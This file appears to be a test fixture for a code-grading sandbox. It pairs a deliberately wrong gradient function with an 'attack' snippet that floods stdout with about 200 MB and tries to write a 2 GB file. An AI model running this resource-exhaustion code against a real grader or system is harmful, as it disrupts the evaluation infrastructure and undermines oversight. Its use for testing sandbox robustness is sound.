# class: huge outputs
# --- honest
import numpy as np


def propagate(w, b, X, Y):
    # wrong on purpose: the gradients and the cost are all zero
    return {"dw": np.zeros_like(w, dtype=float), "db": 0.0}, 0.0

# --- attack
import sys

for _ in range(200):
    sys.stdout.write("x" * 1_000_000)
with open("big.bin", "wb") as handle:
    try:
        handle.write(b"\0" * (2 * 1024**3))
    except OSError:
        pass
